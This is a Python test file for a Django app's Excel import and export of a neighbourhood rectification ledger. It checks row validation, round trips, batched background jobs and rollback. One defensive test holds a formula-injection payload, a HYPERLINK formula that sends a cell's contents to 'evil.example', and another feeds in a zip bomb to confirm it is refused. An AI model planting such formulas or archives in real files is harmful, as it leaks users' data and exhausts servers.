"""The ledger as Excel: all-or-nothing import with a per-row report, export with photos, round trip, progress."""

import io
from datetime import date

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from youlin.jobs.models import Job
from youlin.ledgers import services
from youlin.ledgers.excel import LedgerImportError, ledger_export, ledger_import
from youlin.ledgers.imports import ledger_import_start
from youlin.ledgers.models import EntryStatus, Ledger, LedgerEntry, PhotoKind
from youlin.ledgers.selectors import entry_export_rows
from youlin.ledgers.tests.conftest import photo, row, sheet

FIELDS = (
    "seq",
    "location_text",
    "compound_id",
    "building_id",
    "description",
    "measure",
    "responsible_party_id",
    "deadline",
    "status",
    "category_id",
    "root_cause",
    "measure_class",
    "done_on",
    "result",
    "campaign_id",
)


def snapshot(ledger):
    return list(LedgerEntry.objects.filter(ledger=ledger).order_by("seq").values_list(*FIELDS))


def test_a_good_sheet_is_imported_with_places_and_parties_resolved(users, ledger):
    result = ledger_import(actor=users.fwd_staff, ledger=ledger, file=sheet([row(1), row(2, 整改情况="已整改")]))
    assert result.created == 2
    first, second = LedgerEntry.objects.filter(ledger=ledger).order_by("seq")
    assert (first.seq, first.compound.name, first.building.name) == (1, "月坛北小街1号院", "1号楼")
    assert second.building is None and second.compound.name == "月坛北小街5号院"
    assert first.responsible_party.name == "中央国家机关某服务中心"
    assert second.status == EntryStatus.DONE and second.done_on is not None
    assert first.lon is not None and first.community_id == ledger.community_id


def test_one_bad_row_imports_nothing_and_reports_row_column_and_reason(users, ledger):
    rows = [
        row(1),
        row(2, 问题位置="不存在的院子"),
        row(3, 整改时限="下周"),
        row(4, 责任单位="某某物业"),
        row(5, 问题描述=""),
    ]
    with pytest.raises(LedgerImportError) as caught:
        ledger_import(actor=users.fwd_staff, ledger=ledger, file=sheet(rows))
    found = {(e.row, e.column) for e in caught.value.errors}
    # Title in row 1, header in row 2: the first data row is row 3.
    assert found == {(4, "问题位置"), (5, "整改时限"), (6, "责任单位"), (7, "问题描述")}
    assert all(e.reason for e in caught.value.errors)
    assert caught.value.code == "import_refused"
    assert LedgerEntry.objects.count() == 0


def test_a_place_of_another_community_is_unknown_here(users, ledger):
    with pytest.raises(LedgerImportError) as caught:
        ledger_import(actor=users.fwd_staff, ledger=ledger, file=sheet([row(1, 问题位置="手帕口南街36号院甲楼")]))
    assert [(e.row, e.column) for e in caught.value.errors] == [(3, "问题位置")]


def test_missing_required_column_and_garbage_file(users, ledger):
    headers = ["序号", "问题位置", "问题描述", "整改措施"]
    with pytest.raises(LedgerImportError) as caught:
        ledger_import(actor=users.fwd_staff, ledger=ledger, file=sheet([row(1)], headers=headers))
    assert {e.column for e in caught.value.errors} == {"责任单位", "整改时限"}
    with pytest.raises(LedgerImportError) as caught:
        ledger_import(actor=users.fwd_staff, ledger=ledger, file=b"not a spreadsheet")
    assert caught.value.code == "import_refused"
    ((problem,),) = [caught.value.errors]
    assert (problem.row, problem.column) == (1, "") and ".xlsx" in problem.reason


def test_only_the_communitys_staff_may_import(users, ledger):
    for username in ("fwd_captain", "gy_secretary", "fwd_volunteer"):
        with pytest.raises(services.LedgerError) as caught:
            ledger_import(actor=getattr(users, username), ledger=ledger, file=sheet([row(1)]))
        assert caught.value.code == "permission_denied"
    assert LedgerEntry.objects.count() == 0


def test_export_then_import_round_trips(users, ledger, fwd):
    staff = users.fwd_staff
    campaign = services.campaign_create(actor=staff, community=fwd, title="清理堆物堆料", starts_on=date(2026, 3, 1))
    ledger_import(actor=staff, ledger=ledger, file=sheet([row(n) for n in range(1, 6)]))
    entry = LedgerEntry.objects.get(ledger=ledger, seq=2)
    LedgerEntry.objects.filter(pk=entry.pk).update(root_cause="装修垃圾", measure_class="clean_up", campaign=campaign)
    services.ledger_entry_transition(
        actor=staff, entry=entry, action="complete", result="已清运", photos=[photo((90, 170, 90))]
    )
    services.ledger_entry_photo_add(actor=staff, entry=entry, kind=PhotoKind.BEFORE, photos=[photo()])
    before = snapshot(ledger)
    from django.utils import translation

    with translation.override("en"):  # exported from an English page: the file is still the offices' layout
        content = ledger_export(
            ledger=ledger, entries=entry_export_rows(staff, ledger, {}), base_url="http://testserver"
        )
    # The same file into the same ledger: nothing changes.
    result = ledger_import(actor=staff, ledger=ledger, file=content)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 5)
    assert snapshot(ledger) == before
    # Into an empty ledger of the same community: the same entries.
    copy = services.ledger_ensure(community=fwd, kind=Ledger.Kind.CUSTOM, name="副本")
    ledger_import(actor=staff, ledger=copy, file=content)
    assert snapshot(copy) == before


def test_formula_looking_cells_export_as_text_and_import_back_unchanged(users, ledger, fwd):
    """#13.6: a ledger cell starting with = + - @ was written as a live formula."""
    staff = users.fwd_staff
    texts = ['=HYPERLINK("http://evil.example/?"&B3,"详情")', "+1 清理", "-2 楼道", "@SUM(A1)"]
    rows = [row(n, 问题描述=text, 整改措施="=1+1") for n, text in enumerate(texts, start=1)]
    ledger_import(actor=staff, ledger=ledger, rows=rows)  # as typed on the page: text, not formulas
    before = snapshot(ledger)
    assert [r[4] for r in before] == texts
    content = ledger_export(ledger=ledger, entries=entry_export_rows(staff, ledger, {}), base_url="http://x")
    ws = load_workbook(io.BytesIO(content)).active
    cells = [ws.cell(row=r, column=c) for r in range(3, 7) for c in (3, 5)]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells), [(c.value, c.data_type) for c in cells]
    assert [ws.cell(row=r, column=3).value for r in range(3, 7)] == texts
    result = ledger_import(actor=staff, ledger=ledger, file=content)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 4)
    assert snapshot(ledger) == before


def test_export_embeds_thumbnails_and_links(users, ledger):
    staff = users.fwd_staff
    ledger_import(actor=staff, ledger=ledger, file=sheet([row(1)]))
    entry = LedgerEntry.objects.get(ledger=ledger)
    services.ledger_entry_photo_add(actor=staff, entry=entry, kind=PhotoKind.BEFORE, photos=[photo()])
    services.ledger_entry_photo_add(actor=staff, entry=entry, kind=PhotoKind.AFTER, photos=[photo((0, 200, 0))])
    content = ledger_export(ledger=ledger, entries=entry_export_rows(staff, ledger, {}), base_url="http://x")
    ws = load_workbook(io.BytesIO(content)).active
    assert [c.value for c in ws[2]][:8] == [
        "序号",
        "问题位置",
        "问题描述",
        "责任单位",
        "整改措施",
        "整改时限",
        "整改情况",
        "照片",
    ]
    assert len(ws._images) == 2
    assert ws.cell(row=3, column=8).hyperlink.target == f"http://x/ledgers/entries/{entry.pk}/"


def test_a_status_step_the_ledger_does_not_allow_is_refused(users, ledger):
    staff = users.fwd_staff
    ledger_import(actor=staff, ledger=ledger, file=sheet([row(1, 序号=1, 整改情况="已撤销")]))
    with pytest.raises(LedgerImportError) as caught:
        ledger_import(actor=staff, ledger=ledger, file=sheet([row(1, 序号=1, 整改情况="已整改")]))
    assert [(e.row, e.column) for e in caught.value.errors] == [(3, "整改情况")]


def test_a_large_file_runs_in_the_background_with_progress(users, ledger, settings, django_capture_on_commit_callbacks):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    settings.YOULIN_LEDGER_IMPORT_SYNC_ROWS = 5
    with django_capture_on_commit_callbacks(execute=True):
        job = ledger_import_start(
            actor=users.fwd_staff, ledger=ledger, filename="big.xlsx", content=sheet([row(n) for n in range(1, 421)])
        )
    assert job.status == Job.Status.PENDING  # queued, not run in the request
    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED
    assert (job.total_rows, job.processed_rows, job.created_count) == (420, 420, 420)
    assert LedgerEntry.objects.filter(ledger=ledger).count() == 420


def test_a_zip_bomb_is_refused_in_the_request_and_in_the_worker(users, ledger, settings):
    """#13.12: the upload's row count (request) and the import (worker) both read through the checked pipeline."""
    import time

    from youlin.domain.tests.test_zip_bombs import SHEET, rows_xml, xlsx_with
    from youlin.jobs.services import job_run

    bomb = xlsx_with({SHEET: rows_xml(400_000)})
    started = time.perf_counter()
    job = ledger_import_start(actor=users.fwd_staff, ledger=ledger, filename="bomb.xlsx", content=bomb)
    assert job.status == Job.Status.FAILED and "解压后过大" in job.message + str(job.errors)
    # The worker, given the same file (as if it had been queued), refuses it too.
    job = Job.objects.create(
        kind="ledger_import",
        actor=users.fwd_staff,
        community=ledger.community,
        filename="b.xlsx",
        content=bomb,
        params={"ledger": ledger.pk},
        total_rows=9999,
    )
    assert job_run(job.pk) == Job.Status.FAILED
    assert time.perf_counter() - started < 10
    assert LedgerEntry.objects.count() == 0


def test_a_small_file_with_a_bad_row_is_reported_at_once(users, ledger):
    job = ledger_import_start(
        actor=users.fwd_staff, ledger=ledger, filename="t.xlsx", content=sheet([row(1), row(2, 整改时限="2026-02-30")])
    )
    assert job.status == Job.Status.FAILED
    assert job.errors == [{"row": 4, "column": "整改时限", "reason": "日期格式应为 2024-05-01。"}]
    assert LedgerEntry.objects.count() == 0


CORRUPTIONS = {
    "问题位置": "月球基地1号院",
    "问题描述": "",
    "责任单位": "不存在的物业公司",
    "整改时限": "2026-13-01",
    "整改情况": "差不多了",
    "序号": "-3",
}


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    size=st.integers(min_value=1, max_value=12),
    bad=st.dictionaries(st.integers(min_value=0, max_value=11), st.sampled_from(sorted(CORRUPTIONS)), max_size=3),
    statuses=st.lists(st.sampled_from(["待整改", "整改中", "已整改", ""]), min_size=12, max_size=12),
    title=st.booleans(),
)
def test_generated_sheets_import_all_rows_or_none(users, ledger, size, bad, statuses, title):
    """Whatever the sheet, either every row is written, or nothing is and each bad row is reported."""
    bad = {i: column for i, column in bad.items() if i < size}
    rows = [row(n, 整改情况=statuses[n]) for n in range(size)]
    for i, column in bad.items():
        rows[i] = {**rows[i], column: CORRUPTIONS[column]}
    before = snapshot(ledger)
    first_data_row = 3 if title else 2
    content = sheet(rows, title="阜外东社区整治台账" if title else None)
    if bad:
        with pytest.raises(LedgerImportError) as caught:
            ledger_import(actor=users.fwd_staff, ledger=ledger, file=content)
        assert {e.row for e in caught.value.errors} == {first_data_row + i for i in bad}
        assert {(e.row, e.column) for e in caught.value.errors} >= {(first_data_row + i, c) for i, c in bad.items()}
        assert snapshot(ledger) == before
    else:
        result = ledger_import(actor=users.fwd_staff, ledger=ledger, file=content)
        assert result.created == size
        assert len(snapshot(ledger)) == len(before) + size


def _large_job(users, ledger, settings, rows, monkeypatch=None):
    """A background import run by the worker's code (``job_run``), in batches of 100."""
    from youlin.jobs.services import job_run

    settings.YOULIN_LEDGER_IMPORT_SYNC_ROWS = 5
    settings.YOULIN_LEDGER_IMPORT_BATCH_ROWS = 100
    job = ledger_import_start(actor=users.fwd_staff, ledger=ledger, filename="big.xlsx", content=sheet(rows))
    assert job.status == Job.Status.PENDING
    job_run(job.pk)
    job.refresh_from_db()
    return job


def test_a_large_import_commits_in_batches_others_can_write_between(users, ledger, settings, monkeypatch):
    """#13.14: the writes of a large import go in short transactions (the others get the database between);
    before, one transaction held the write lock for the whole file."""
    from youlin.jobs.services import JobRun

    seen = []
    check = JobRun.check

    def counting_check(self):
        seen.append(LedgerEntry.objects.filter(ledger=ledger).count())
        return check(self)

    monkeypatch.setattr(JobRun, "check", counting_check)
    job = _large_job(users, ledger, settings, [row(n) for n in range(1, 421)])
    assert job.status == Job.Status.SUCCEEDED and job.created_count == 420
    assert seen == [0, 100, 200, 300, 400]  # after the checks, then after each committed batch but the last
    assert sorted(LedgerEntry.objects.filter(ledger=ledger).values_list("seq", flat=True)) == list(range(1, 421))
    assert job.params["written"] == []


def test_a_batch_that_fails_undoes_the_batches_before_it(users, ledger, settings, monkeypatch):
    from django.db import OperationalError
    from django.db.models import QuerySet

    ledger_import(actor=users.fwd_staff, ledger=ledger, file=sheet([row(1, 序号=1), row(2, 序号=2)]))
    before = snapshot(ledger)
    bulk_create = QuerySet.bulk_create
    calls = []

    def failing_third(self, objs, *args, **kwargs):
        calls.append(len(objs))
        if len(calls) == 3:
            raise OperationalError("database is locked")
        return bulk_create(self, objs, *args, **kwargs)

    monkeypatch.setattr(QuerySet, "bulk_create", failing_third)
    rows = [row(1, 序号=1, 整改措施="改了"), row(2, 序号=2, 整改措施="也改了")] + [row(n) for n in range(3, 421)]
    with pytest.raises(OperationalError):
        _large_job(users, ledger, settings, rows)
    job = Job.objects.get(filename="big.xlsx")
    assert job.status == Job.Status.FAILED and "未导入任何数据" in job.message
    assert snapshot(ledger) == before  # two batches were written, then undone; the updates given back
    assert job.params["written"] == []


def test_an_entry_changed_during_the_import_is_not_overwritten(users, ledger, settings, monkeypatch):
    from youlin.jobs.services import JobRun

    staff = users.fwd_staff
    ledger_import(actor=staff, ledger=ledger, file=sheet([row(n, 序号=n) for n in range(1, 201)]))
    check = JobRun.check
    calls = []

    def edit_between(self):
        calls.append(1)
        if len(calls) == 2:  # after the first batch: someone moves entry 200 on
            entry = LedgerEntry.objects.get(ledger=ledger, seq=200)
            services.ledger_entry_transition(actor=staff, entry=entry, action="start")
        return check(self)

    monkeypatch.setattr(JobRun, "check", edit_between)
    rows = [row(n, 序号=n, 整改措施="统一整改") for n in range(1, 201)] + [row(n) for n in range(201, 301)]
    job = _large_job(users, ledger, settings, rows)
    assert job.status == Job.Status.FAILED and "修改" in job.message
    assert LedgerEntry.objects.filter(ledger=ledger).count() == 200
    assert not LedgerEntry.objects.filter(ledger=ledger, measure="统一整改").exists()
    assert LedgerEntry.objects.get(ledger=ledger, seq=200).status == EntryStatus.IN_PROGRESS


def test_a_killed_run_is_undone_by_the_next_run(users, ledger, settings):
    from youlin.jobs.services import job_run

    settings.YOULIN_LEDGER_IMPORT_SYNC_ROWS = 5
    job = ledger_import_start(
        actor=users.fwd_staff, ledger=ledger, filename="big.xlsx", content=sheet([row(n) for n in range(1, 31)])
    )
    # What a worker killed after its first batch leaves: its entries, its record of them, the job still running.
    leftover = services.ledger_entry_create(
        actor=users.fwd_staff, ledger=ledger, description="半途写入", location_text="月坛北小街1号院"
    )
    Job.objects.filter(pk=job.pk).update(params={**job.params, "written": [leftover.pk]})
    assert job_run(job.pk) == Job.Status.SUCCEEDED
    assert not LedgerEntry.objects.filter(pk=leftover.pk).exists()
    assert LedgerEntry.objects.filter(ledger=ledger).count() == 30
